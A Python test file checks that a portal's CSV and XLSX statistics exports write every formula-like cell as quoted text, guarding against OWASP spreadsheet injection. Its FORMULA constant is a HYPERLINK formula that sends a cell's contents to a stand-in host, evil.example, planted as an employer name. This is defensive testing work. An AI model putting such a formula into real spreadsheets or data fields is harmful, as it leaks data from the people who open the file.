"""Row 4: no exported cell is ever a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal import spreadsheet
from portal.auth.models import AKIMAT
from portal.extensions import db
from tests.helpers import sign_in
from tests.stats import dataset

ARGS = f"period=year&on={dataset.YEAR}-06-30"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+7 701", "'+7 701"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ТОО «Альфа»", "ТОО «Альфа»"),
        ("a=b", "a=b"),
        (-2, -2),
        (3.5, 3.5),
        (None, ""),
    ],
)
def test_a_cell_is_never_a_formula(value, written):
    assert spreadsheet.cell(value) == written


@pytest.fixture
def formula_employer(make_employer, make_vacancy, make_candidate):
    found = dataset.build(make_employer, make_vacancy, make_candidate)
    employer = db.session.get(type(found["alpha"]), found["alpha"].id)
    employer.name_ru = employer.name_kk = FORMULA
    db.session.commit()
    return employer


def test_the_statistics_exports_write_an_employer_named_as_a_formula_as_text(
    app, make_user, formula_employer
):
    client = app.test_client()
    sign_in(client, make_user(AKIMAT))
    body = client.get(f"/stats/export.csv?{ARGS}").data.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_STARTS)]

    book = load_workbook(io.BytesIO(client.get(f"/stats/export.xlsx?{ARGS}").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert not [c for c in cells if c.data_type == "f"]
